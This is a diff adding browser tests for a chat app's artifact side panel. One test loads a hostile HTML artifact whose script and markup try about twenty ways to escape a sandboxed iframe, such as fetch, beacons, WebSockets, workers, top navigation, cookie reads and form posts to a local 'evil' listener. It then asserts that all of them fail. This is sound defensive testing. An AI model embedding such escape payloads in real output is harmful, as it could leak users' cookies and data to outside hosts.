@@ -1,0 +1,147 @@
+"""Artifacts in a real browser: the panel beside the chat, and a frame out of which nothing gets."""
+
+from __future__ import annotations
+
+import socketserver
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, Page, expect
+
+from chatserver.domain.access import Account
+from tests.browser.stage import Site, ask_and_wait, replies
+
+pytestmark = pytest.mark.browser
+
+Visit = Callable[..., Page]
+Shoot = Callable[[Page, str], None]
+SVG = (
+    '```svg title="A tree"\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 60"><rect x="27" y="30" width="6"'
+    ' height="25" fill="#7a5c3e"/><circle cx="30" cy="22" r="16" fill="#3c8d5a"/></svg>\n```'
+)
+DIAGRAM = '```mermaid title="A road"\ngraph LR; Oak-->Elm; Elm-->Fir\n```'
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A second origin that counts what it is asked."""
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, format: str, *args: object) -> None:
+            """Nothing is printed."""
+
+    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+        server.shutdown()
+
+
+def test_what_an_answer_made_stands_beside_it(visit: Visit, site: Site, shoot: Shoot) -> None:
+    site.actor.answers["Draw a tree."] = f"Here it is.\n\n{SVG}\n\nAnd the way:\n\n{DIAGRAM}"
+    page = visit(scheme="dark")
+    ask_and_wait(page, "Draw a tree.")
+    replies(page).last.get_by_role("link", name="A tree").click()
+    panel = page.get_by_role("complementary", name="Panel")
+    expect(panel.get_by_role("img", name="A tree")).to_be_visible()
+    shoot(page, "artifacts-dark-1440")
+    result = Axe().run(page)
+    assert result.violations_count == 0, result.generate_report()
+    panel.get_by_role("link", name="Source").click()
+    expect(panel.locator("pre code")).to_contain_text("<circle")
+    panel.get_by_role("button", name="Ask for a change").click()
+    expect(page.get_by_role("textbox", name="Message")).to_have_value("Please change “A tree”: ")
+    panel.get_by_role("link", name="All artifacts").click()
+    panel.get_by_role("link", name="A road").click()
+    panel.get_by_role("link", name="Run").click()
+    drawn = panel.frame_locator("iframe").locator("svg")
+    expect(drawn).to_contain_text("Oak", timeout=20_000)
+    shoot(page, "artifacts-diagram-dark-1440")
+    panel.get_by_role("link", name="Map").click()
+    expect(panel.get_by_role("link", name="Artifacts", exact=True)).to_be_visible()
+
+
+def test_a_phone_shows_them_too(visit: Visit, site: Site, shoot: Shoot) -> None:
+    site.actor.answers["Draw a small tree."] = SVG
+    page = visit(width=390)
+    ask_and_wait(page, "Draw a small tree.")
+    replies(page).last.get_by_role("link", name="A tree").click()
+    panel = page.get_by_role("complementary", name="Panel")
+    expect(panel.get_by_role("img", name="A tree")).to_be_visible()
+    shoot(page, "artifacts-light-390")
+    result = Axe().run(page)
+    assert result.violations_count == 0, result.generate_report()
+
+
+def test_nothing_gets_out_of_the_frame(
+    browser: Browser, site: Site, account: Account, listener: tuple[str, list[str]]
+) -> None:
+    """What the browser refuses it also complains of, so this page's complaints are not counted."""
+    evil, seen = listener
+    attempts = f"""
+const told = (name, run) => {{ try {{ Promise.resolve(run()).catch(() => {{}}) }} catch {{}} done.push(name) }}
+const done = []
+told("fetch", () => fetch("{evil}/fetch"))
+told("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", "{evil}/xhr"); x.send() }})
+told("beacon", () => navigator.sendBeacon("{evil}/beacon", "x"))
+told("img", () => {{ new Image().src = "{evil}/img" }})
+told("socket", () => new WebSocket("{evil.replace("http", "ws")}/socket"))
+told("events", () => new EventSource("{evil}/events"))
+told("worker", () => new Worker("{evil}/worker.js"))
+told("blobworker", () => new Worker(URL.createObjectURL(new Blob(["fetch('{evil}/blobworker')"]))))
+told("import", () => import("{evil}/import.js"))
+told("popup", () => window.open("{evil}/popup"))
+told("top", () => {{ top.location = "{evil}/top" }})
+told("parent", () => {{ parent.document.title = "pwned" }})
+told("cookie", () => {{ document.title = document.cookie }})
+told("storage", () => localStorage.setItem("a", "b"))
+const add = (name, given, where = document.body) => where.append(Object.assign(document.createElement(name), given))
+told("frame", () => add("iframe", {{ src: "{evil}/frame" }}))
+const inner = "<iframe srcdoc='<img src={evil}/srcdoc>'></iframe>"
+told("srcdoc", () => document.body.insertAdjacentHTML("beforeend", inner))
+told("link", () => add("link", {{ rel: "stylesheet", href: "{evil}/link.css" }}, document.head))
+told("prefetch", () => add("link", {{ rel: "prefetch", href: "{evil}/prefetch" }}, document.head))
+told("form", () => {{ add("form", {{ action: "{evil}/form" }}); document.forms[0].submit() }})
+told("rtc", () => {{ document.body.dataset.rtc = String(typeof RTCPeerConnection) }})
+document.body.dataset.done = done.length
+setTimeout(() => {{ location = "{evil}/navigate" }}, 300)
+"""
+    markup = (
+        f'<!doctype html><title>Evil</title><style>@import "{evil}/import.css";'
+        f"@font-face{{font-family:x;src:url({evil}/font)}}body{{background:url({evil}/css);font-family:x}}</style>"
+        f"<body>text<img src={evil}/tag><video src={evil}/video></video>"
+        f'<object data="{evil}/object"></object><embed src="{evil}/embed"><script src="{evil}/script.js"></script>'
+        f"<script>{attempts}</script>"
+    )
+    site.actor.answers["Be evil."] = f'```html title="Evil"\n{markup}\n```'
+    context = browser.new_context()
+    context.add_cookies([site.cookie(account)])  # type: ignore[list-item]
+    page = context.new_page()
+    page.goto(site.url)
+    ask_and_wait(page, "Be evil.")
+    title = page.title()
+    replies(page).last.get_by_role("link", name="Evil").click()
+    panel = page.get_by_role("complementary", name="Panel")
+    page.evaluate("document.cookie = 'seen=1'")
+    with page.expect_response(lambda response: "/x/artifacts/frame/" in response.url):
+        panel.get_by_role("link", name="Run").click()
+    body = panel.frame_locator("iframe").locator("body")
+    expect(body).to_have_attribute("data-done", "20")
+    assert body.get_attribute("data-rtc") == "undefined"
+    page.wait_for_timeout(1_500)  # for what is asked late, and for the way out that was tried last
+    assert seen == []
+    assert page.title() == title and "pwned" not in page.title()
+    assert len(context.pages) == 1
+    context.close()
